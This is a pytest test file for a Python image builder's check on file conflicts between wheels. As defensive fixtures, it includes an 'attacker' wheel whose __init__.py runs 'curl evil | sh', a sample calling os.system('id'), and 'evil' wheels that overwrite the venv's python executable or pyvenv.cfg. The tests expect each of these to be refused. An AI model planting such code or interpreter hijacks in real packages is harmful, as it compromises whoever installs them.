"""The conflict check: every path of every layer above the base, the interpreter layer's included; only real
namespace boilerplate in ``__init__.py`` may come from several wheels."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from support.tiny import assert_one_error, offline_env, run_pyimage, snapshot, tiny_base, tiny_project, verify_clean
from wheels_fixture import make_wheel

from pyimage.layers.conflicts import check_conflicts
from pyimage.cache import Cache
from pyimage.errors import BuildError
from pyimage.layers.install import is_namespace_boilerplate
from pyimage.layers.paths import InstallPaths
from pyimage.wheels import read_wheel

PATHS = InstallPaths("/opt/venv", "3.11")
SITE = "opt/venv/lib/python3.11/site-packages"

PKGUTIL = b"__path__ = __import__('pkgutil').extend_path(__path__, __name__)\n"
PKG_RESOURCES = b"__import__('pkg_resources').declare_namespace(__name__)\n"
GUARDED = (
    b'"""Namespace package."""\ntry:\n    __import__("pkg_resources").declare_namespace(__name__)\n'
    b"except ImportError:\n    from pkgutil import extend_path\n    __path__ = extend_path(__path__, __name__)\n"
)


def check(tmp_path: Path, *wheels: Path) -> list[str]:
    return check_conflicts([read_wheel(w) for w in wheels], PATHS, Cache(tmp_path / "cache"))


@pytest.mark.parametrize("source", [b"", b"# just a comment\n", PKGUTIL, PKG_RESOURCES, GUARDED], ids=["empty", "comment", "pkgutil", "pkg_resources", "guarded"])
def test_namespace_boilerplate_is_recognised(source: bytes) -> None:
    assert is_namespace_boilerplate(source)


@pytest.mark.parametrize(
    "source",
    [b"import os\nos.system('id')\n", b"__path__ = []\n", PKGUTIL + b"VERSION = '1'\n", b"from pkgutil import walk_packages\n", b"def x(:\n"],
    ids=["code", "path-reassigned", "boilerplate-plus-code", "other-import", "syntax-error"],
)
def test_anything_more_than_boilerplate_is_not(source: bytes) -> None:
    assert not is_namespace_boilerplate(source)


@pytest.mark.parametrize("one, two", [(PKGUTIL, PKG_RESOURCES), (b"", GUARDED), (PKGUTIL, PKGUTIL + b"\n")])
def test_two_wheels_of_one_namespace_may_each_ship_its_init(tmp_path: Path, one: bytes, two: bytes) -> None:
    a = make_wheel(tmp_path / "a", "zope_a", "1.0", {"zope/__init__.py": one, "zope/a.py": b""})
    b = make_wheel(tmp_path / "b", "zope_b", "1.0", {"zope/__init__.py": two, "zope/b.py": b""})

    notes = check(tmp_path, a, b)

    assert notes == [f"/{SITE}/zope/__init__.py comes from both {a.name} and {b.name} (namespace package boilerplate); one copy wins, as with pip"]


@pytest.mark.parametrize("one", [PKGUTIL, b"print('mine')\n"], ids=["over-boilerplate", "over-code"])
def test_a_wheel_replacing_another_packages_init_with_code_is_refused(tmp_path: Path, one: bytes) -> None:
    a = make_wheel(tmp_path / "a", "victim", "1.0", {"victim/__init__.py": one})
    b = make_wheel(tmp_path / "b", "attacker", "1.0", {"victim/__init__.py": b"import os; os.system('curl evil | sh')\n"})

    with pytest.raises(BuildError, match=rf"attacker-1.0-py3-none-any.whl and victim-1.0-py3-none-any.whl both install /{SITE}/victim/__init__.py"):
        check(tmp_path, a, b)


@pytest.mark.parametrize(
    "files, entry_points, path",
    [
        ({}, "[console_scripts]\npython = evil:main\n", "opt/venv/bin/python"),
        ({}, "[console_scripts]\npython3.11 = evil:main\n", "opt/venv/bin/python3.11"),
        ({"evil-1.0.data/data/pyvenv.cfg": b"home = /tmp/evil\n"}, None, "opt/venv/pyvenv.cfg"),
        ({"evil-1.0.data/scripts/python3": b"#!/bin/sh\n"}, None, "opt/venv/bin/python3"),
    ],
    ids=["script-python", "script-python3.11", "data-pyvenv-cfg", "scripts-python3"],
)
def test_a_wheel_writing_over_the_interpreter_layer_is_refused(tmp_path: Path, files: dict[str, bytes], entry_points: str | None, path: str) -> None:
    evil = make_wheel(tmp_path, "evil", "1.0", {"evil.py": b"", **files}, entry_points=entry_points)

    with pytest.raises(BuildError, match=rf"evil-1.0-py3-none-any.whl and the interpreter layer both install /{path}"):
        check(tmp_path, evil)


def test_a_file_where_another_wheel_has_a_directory_is_refused(tmp_path: Path) -> None:
    a = make_wheel(tmp_path / "a", "alpha", "1.0", {"shared/mod.py": b"x = 1\n"})
    b = make_wheel(tmp_path / "b", "beta", "1.0", {"shared": b"a file\n"})

    with pytest.raises(BuildError, match=rf"installs a file at /{SITE}/shared, where alpha-1.0-py3-none-any.whl has a directory"):
        check(tmp_path, a, b)
    with pytest.raises(BuildError, match=rf"installs /{SITE}/shared/mod.py inside /{SITE}/shared, which beta-1.0-py3-none-any.whl installs as a file"):
        check(tmp_path / "other", b, a)


def test_a_file_where_the_interpreter_layer_has_a_directory_is_refused(tmp_path: Path) -> None:
    evil = make_wheel(tmp_path, "evil", "1.0", {"evil-1.0.data/data/bin": b"not a directory\n"})
    with pytest.raises(BuildError, match="where the interpreter layer has a directory"):
        check(tmp_path, evil)


def test_identical_copies_are_fine(tmp_path: Path) -> None:
    a = make_wheel(tmp_path / "a", "alpha", "1.0", {"shared/data.txt": b"same\n", "alpha.py": b""})
    b = make_wheel(tmp_path / "b", "beta", "1.0", {"shared/data.txt": b"same\n", "beta.py": b""})
    assert check(tmp_path, a, b) == []


def test_a_dependency_that_overwrites_the_venv_python_fails_the_build_with_one_line(tmp_path: Path) -> None:
    wheels = tmp_path / "wheels"
    make_wheel(wheels, "evil", "1.0", {"evil.py": b""}, entry_points="[console_scripts]\npython = evil:main\n")
    project = tiny_project(tmp_path / "project", dependencies=["evil"])
    base = tiny_base(tmp_path / "base")
    canary = tmp_path / "project"
    before = snapshot(canary / "src")
    cache = tmp_path / "cache"
    env = offline_env(find_links=wheels)

    result = run_pyimage("build", "-C", str(project), "--base", base, "-o", f"oci:{tmp_path / 'out'}", cache=cache, env=env)

    assert_one_error(result, 1, "the interpreter layer both install /opt/venv/bin/python")
    assert not (tmp_path / "out").exists()
    assert snapshot(canary / "src") == before
    verify_clean(cache)
    (project / "pyproject.toml").write_text((project / "pyproject.toml").read_text().replace('dependencies = ["evil"]', "dependencies = []"))
    again = run_pyimage("build", "--json", "-C", str(project), "--base", base, "-o", f"oci:{tmp_path / 'out'}", cache=cache, env=env)
    assert again.returncode == 0, again.stderr
    assert json.loads(again.stdout)["outputs"]


def test_each_file_map_is_read_from_the_cache_once_per_process(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A rebuild after an edit has a new app wheel, so the conflict check runs again over every wheel; each wheel's
    file map is read from the cache once, not once per use (a build read torch's 12,000 entries three times), and a
    conflict found from the remembered maps is still found."""
    from pyimage.layers import conflicts
    from pyimage.layers.conflicts import wheel_files

    a = read_wheel(make_wheel(tmp_path / "a", "alpha", "1.0", {"alpha/__init__.py": b"a = 1\n", "shared/data.txt": b"one\n"}))
    b = read_wheel(make_wheel(tmp_path / "b", "beta", "1.0", {"beta/__init__.py": b"b = 1\n"}))
    clash = read_wheel(make_wheel(tmp_path / "c", "gamma", "1.0", {"gamma/__init__.py": b"", "shared/data.txt": b"two\n"}))
    cache = Cache(tmp_path / "cache")
    assert check_conflicts([a, b], PATHS, cache) == []  # the maps made and recorded

    monkeypatch.setattr(conflicts, "_MEMO", {})  # a new process: nothing remembered yet
    reads: list[str] = []  # the file maps read back from the cache (a miss is not a read)
    get_meta = Cache.get_meta

    def counted(self: Cache, kind: object, *key: str) -> object:
        found = get_meta(self, kind, *key)  # type: ignore[arg-type]
        if found is not None:
            reads.append(kind.kind)  # type: ignore[attr-defined]
        return found

    monkeypatch.setattr(Cache, "get_meta", counted)
    app = read_wheel(make_wheel(tmp_path / "app", "app", "1.0", {"app/__init__.py": b"edited = True\n"}))
    assert check_conflicts([a, b, app], PATHS, cache) == []
    for wheel in (a, b, app):
        wheel_files(wheel, PATHS, cache)  # what the entrypoint check and the layer plan ask for next
    assert reads.count("files") == 2  # alpha's and beta's, once each; the app's map was made here
    with pytest.raises(BuildError, match="both install /opt/venv/lib/python3.11/site-packages/shared/data.txt"):
        check_conflicts([a, b, clash], PATHS, cache)
